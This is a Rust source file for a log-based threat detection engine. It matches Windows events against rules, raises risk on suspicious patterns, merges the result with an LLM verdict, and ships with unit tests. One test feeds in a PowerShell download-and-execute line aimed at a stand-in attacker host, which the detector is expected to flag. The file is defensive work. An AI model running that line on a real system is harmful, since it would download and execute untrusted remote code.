//! Deterministic detection: turns a [`LogEvent`] into at most one
//! [`SecurityEvent`] by table lookup plus a data-driven set of pattern
//! elevators. No network or disk access, so this runs synchronously inline
//! in the ingest path.

mod elevators;
mod rules;

pub use elevators::{default_elevators, Elevator, ElevatorPattern};
pub use rules::{default_rules, Rule, RuleTable};

use sentinel_common::types::{ComponentHealth, EventStatus, HealthLevel, LlmVerdict, LogEvent, RiskLevel, SecurityEvent};
use std::collections::HashSet;

pub trait SecurityEventDetector: Send + Sync {
    /// Returns `None` when no base rule matches this event's
    /// `(channel, event_id)`.
    fn detect(&self, event: &LogEvent) -> Option<SecurityEvent>;
    fn health_check(&self) -> ComponentHealth;
}

pub struct StandardRulesEngine {
    rules: RuleTable,
    elevators: Vec<Elevator>,
}

impl StandardRulesEngine {
    pub fn new(rules: RuleTable, elevators: Vec<Elevator>) -> Self {
        Self { rules, elevators }
    }

    pub fn with_defaults() -> Self {
        Self::new(default_rules(), default_elevators())
    }

    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }
}

impl Default for StandardRulesEngine {
    fn default() -> Self {
        Self::with_defaults()
    }
}

impl SecurityEventDetector for StandardRulesEngine {
    fn detect(&self, event: &LogEvent) -> Option<SecurityEvent> {
        let rule = self.rules.get(&(event.channel.clone(), event.event_id))?;

        let mut risk = rule.base_risk;
        let mut confidence = rule.base_confidence;
        let mut mitre: Vec<String> = rule.base_mitre.clone();
        let mut recommended_actions = rule.base_recommended_actions.clone();

        elevators::apply(&self.elevators, &event.message, &mut risk, &mut confidence, &mut mitre, &mut recommended_actions);

        Some(SecurityEvent {
            id: uuid::Uuid::new_v4(),
            original_event: event.clone(),
            event_type: rule.event_type.clone(),
            risk_level: risk,
            confidence,
            summary: rule.base_summary.clone(),
            mitre_techniques: mitre.into_iter().collect::<HashSet<_>>(),
            recommended_actions,
            is_deterministic: true,
            correlation_id: None,
            correlation_score: 0.0,
            burst_score: 0.0,
            anomaly_score: 0.0,
            status: EventStatus::Open,
            created_at: sentinel_common::utils::current_timestamp(),
        })
    }

    fn health_check(&self) -> ComponentHealth {
        ComponentHealth {
            status: HealthLevel::Healthy,
            message: format!("{} rules, {} elevators loaded", self.rules.len(), self.elevators.len()),
            last_check: sentinel_common::utils::current_timestamp(),
            metrics: Default::default(),
        }
    }
}

/// Reconciles the deterministic verdict (if any rule matched) with the LLM
/// verdict: risk and confidence take the higher of the two, MITRE tags and
/// recommended actions union, and a deterministic summary always wins over
/// the LLM's since it was produced without hallucination risk. An event
/// with no matching rule and a low-risk LLM verdict still produces a
/// `SecurityEvent`, just an undramatic one — persistence is gated on risk
/// downstream, not here.
pub fn merge_verdicts(event: &LogEvent, deterministic: Option<SecurityEvent>, llm: LlmVerdict) -> SecurityEvent {
    let llm_risk: RiskLevel = llm.risk.parse().unwrap_or(RiskLevel::Low);

    match deterministic {
        Some(mut security_event) => {
            security_event.risk_level = security_event.risk_level.max(llm_risk);
            security_event.confidence = security_event.confidence.max(llm.confidence);
            security_event.mitre_techniques.extend(llm.mitre);
            for action in llm.recommended_actions {
                if !security_event.recommended_actions.contains(&action) {
                    security_event.recommended_actions.push(action);
                }
            }
            security_event
        }
        None => SecurityEvent {
            id: uuid::Uuid::new_v4(),
            original_event: event.clone(),
            event_type: "llm_detected".to_string(),
            risk_level: llm_risk,
            confidence: llm.confidence,
            summary: llm.summary,
            mitre_techniques: llm.mitre.into_iter().collect::<HashSet<_>>(),
            recommended_actions: llm.recommended_actions,
            is_deterministic: false,
            correlation_id: None,
            correlation_score: 0.0,
            burst_score: 0.0,
            anomaly_score: 0.0,
            status: EventStatus::Open,
            created_at: sentinel_common::utils::current_timestamp(),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(channel: &str, event_id: i64, message: &str) -> LogEvent {
        LogEvent {
            time: chrono::Utc::now(),
            host: "host1".to_string(),
            channel: channel.to_string(),
            event_id,
            level: "Information".to_string(),
            user: "alice".to_string(),
            message: message.to_string(),
            unique_id: format!("{channel}-{event_id}"),
        }
    }

    #[test]
    fn unmatched_event_returns_none() {
        let engine = StandardRulesEngine::with_defaults();
        let result = engine.detect(&event("Application", 1000, "nothing interesting"));
        assert!(result.is_none());
    }

    #[test]
    fn powershell_base_rule_is_medium_risk() {
        let engine = StandardRulesEngine::with_defaults();
        let result = engine.detect(&event(
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            "Get-ChildItem -Path C:\\Users",
        ));
        let security_event = result.unwrap();
        assert_eq!(security_event.risk_level, RiskLevel::Medium);
        assert!(security_event.is_deterministic);
    }

    #[test]
    fn powershell_suspicious_pattern_elevates_to_high() {
        let engine = StandardRulesEngine::with_defaults();
        let result = engine.detect(&event(
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
        ));
        let security_event = result.unwrap();
        assert_eq!(security_event.risk_level, RiskLevel::High);
        assert!(security_event.confidence <= 95);
        assert!(security_event.mitre_techniques.contains("T1105"));
    }

    #[test]
    fn failed_logon_rule_matches() {
        let engine = StandardRulesEngine::with_defaults();
        let result = engine.detect(&event("Security", 4625, "An account failed to log on"));
        assert_eq!(result.unwrap().event_type, "failed_logon");
    }

    fn llm_verdict(risk: &str, confidence: u8) -> LlmVerdict {
        LlmVerdict {
            risk: risk.to_string(),
            confidence,
            summary: "llm summary".to_string(),
            mitre: vec!["T1059.001".to_string()],
            recommended_actions: vec!["Isolate host".to_string()],
        }
    }

    #[test]
    fn merge_keeps_deterministic_summary_but_takes_higher_risk_and_confidence() {
        let engine = StandardRulesEngine::with_defaults();
        let source = event("Security", 4624, "An account was successfully logged on");
        let deterministic = engine.detect(&source);
        let merged = merge_verdicts(&source, deterministic, llm_verdict("critical", 90));

        assert_eq!(merged.risk_level, RiskLevel::Critical);
        assert_eq!(merged.confidence, 90);
        assert_eq!(merged.summary, "Successful logon");
        assert!(merged.mitre_techniques.contains("T1059.001"));
        assert!(merged.is_deterministic);
    }

    #[test]
    fn merge_without_a_matching_rule_falls_back_to_the_llm_verdict() {
        let source = event("Application", 9999, "unrecognised application event");
        let merged = merge_verdicts(&source, None, llm_verdict("medium", 55));

        assert_eq!(merged.risk_level, RiskLevel::Medium);
        assert_eq!(merged.summary, "llm summary");
        assert!(!merged.is_deterministic);
    }
}
